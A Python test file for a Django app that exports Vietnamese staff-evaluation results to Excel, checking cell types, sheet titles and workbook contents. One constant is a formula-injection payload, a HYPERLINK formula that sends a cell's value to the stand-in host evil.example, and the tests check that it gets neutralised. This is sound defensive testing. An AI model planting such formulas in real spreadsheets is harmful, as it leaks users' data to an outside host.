"""Workbooks: re-read with openpyxl; numbers are numbers, dates are dates, formulas stay text."""

import datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from danhgia.evaluations.models import Sheet
from danhgia.reports.exports import documents
from danhgia.reports.xlsx import StreamedWorkbook, cell_value, safe_text, sheet_title
from tests.conftest import World
from tests.reports.exports.conftest import QUOTA_REASON

OCTOBER = datetime.date(2026, 10, 1)
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.mark.parametrize(
    ("text", "stored"),
    [
        (INJECTION, "'" + INJECTION),
        ("+84 905 123 456", "'+84 905 123 456"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        ("a=b", "a=b"),
    ],
)
def test_text_that_could_be_a_formula_is_quoted(text: str, stored: str) -> None:
    assert safe_text(text) == stored


def test_values_keep_their_type() -> None:
    aware = timezone.make_aware(datetime.datetime(2026, 10, 31, 17, 30), datetime.UTC)
    assert cell_value(Decimal("90.44")) == Decimal("90.44")
    assert cell_value(-3) == -3  # a negative number is a number, not a formula
    assert (cell_value(True), cell_value(False)) == ("Có", "Không")
    assert cell_value(None) is None
    assert cell_value(datetime.date(2026, 10, 1)) == datetime.date(2026, 10, 1)
    assert cell_value(aware) == datetime.datetime(2026, 11, 1, 0, 30)  # Asia/Ho_Chi_Minh
    assert sheet_title("Tháng 10/2026: [Sở]*?") == "Tháng 10-2026- -Sở---"


def test_a_streamed_workbook_reads_back(tmp_path: Path) -> None:
    book = StreamedWorkbook()
    sheet = book.add_sheet("Dữ liệu", ["Họ và tên", "Điểm", "Ngày"], widths=[20, 8, 12])
    sheet.append([INJECTION, Decimal("87.5"), datetime.date(2026, 10, 31)])
    book.save(tmp_path / "book.xlsx")
    rows = list(load_workbook(tmp_path / "book.xlsx")["Dữ liệu"].iter_rows())
    assert [cell.value for cell in rows[0]] == ["Họ và tên", "Điểm", "Ngày"]
    name, score, day = rows[1]
    assert (name.value, name.data_type) == ("'" + INJECTION, "s")
    assert (score.value, score.data_type) == (87.5, "n")
    assert day.value == datetime.datetime(2026, 10, 31)
    assert day.number_format == "DD/MM/YYYY"


@pytest.mark.django_db
def test_the_months_workbook_has_every_component(
    world: World, decided_sheet: Sheet, english: None, tmp_path: Path
) -> None:
    person = world.people["manager"]
    person.full_name = INJECTION
    person.save(update_fields=["full_name"])
    Sheet.objects.filter(person=world.people["head"]).update(is_leader=True, quota_exception=True)
    target = tmp_path / "month.xlsx"
    progress: list[tuple[int, int]] = []
    rows = documents.write_month_workbook(
        world.dept, OCTOBER, str(target), lambda done, total: progress.append((done, total))
    )
    assert rows == 4
    book = load_workbook(target)
    assert book.sheetnames == ["October 2026", "Summary"]
    data = list(book["October 2026"].values)
    header = list(data[0])
    by_name = {
        row[header.index("Full name")]: dict(zip(header, row, strict=True)) for row in data[1:]
    }
    assert sorted(by_name) == sorted(
        ["'" + INJECTION, "Nguyễn Văn An", "Trần Thị Hạnh", "Đặng Thu Hà"]
    )
    an = by_name["Nguyễn Văn An"]
    assert an["Employee code"] == "E-staff"
    assert an["Unit"] == "Phòng Công chức"
    assert an["Status"] == "decided"
    assert (
        an["Chính trị, tư tưởng, đạo đức, lối sống, văn hóa công vụ, kỷ luật, kỷ cương (self)"] == 9
    )
    assert an["General criteria (manager)"] == 27
    assert (an["a: quantity (%)"], an["b: quality (%)"], an["c: timeliness (%)"]) == (
        93.75,
        90.625,
        87.5,
    )
    assert an["d: unit results (%)"] is None
    assert (an["Task result points"], an["Total"]) == (63.44, 90.44)
    assert an["Band of the score"] == "Hoàn thành xuất sắc nhiệm vụ"
    assert an["Level proposed by the manager"] == "Hoàn thành xuất sắc nhiệm vụ"
    assert an["Decided level"] == "Hoàn thành tốt nhiệm vụ"
    assert an["Reason for the decision"] == QUOTA_REASON
    assert an["Leader"] == "Không"
    assert an["Quota exception"] == "Không"
    head = by_name["Trần Thị Hạnh"]
    assert (head["Leader"], head["Quota exception"]) == ("Có", "Có")
    assert isinstance(an["Decided at"], datetime.datetime)
    assert an["Decided by"] == "Trần Thị Hạnh"
    summary = list(book["Summary"].values)
    assert summary[0][:4] == ("Unit code", "Unit", "Sheets", "Decided")
    assert "Hoàn thành tốt nhiệm vụ" in summary[0]
    division = next(row for row in summary if row[0] == "SNV-CC")
    good = summary[0].index("Hoàn thành tốt nhiệm vụ")
    assert (division[2], division[3], division[good]) == (2, 1, 1)
    assert progress == []  # reported every 1,000 rows


@pytest.mark.django_db
def test_a_province_month_gathers_every_department(
    world: World, decided_sheet: Sheet, english: None, tmp_path: Path
) -> None:
    target = tmp_path / "province.xlsx"
    assert documents.write_month_workbook(world.province, OCTOBER, str(target)) == 7
    names = [row[2] for row in list(load_workbook(target).worksheets[0].values)[1:]]
    assert "Lê Thị Bình" in names
    assert documents.write_month_workbook(world.dept_other, OCTOBER, str(target)) == 2
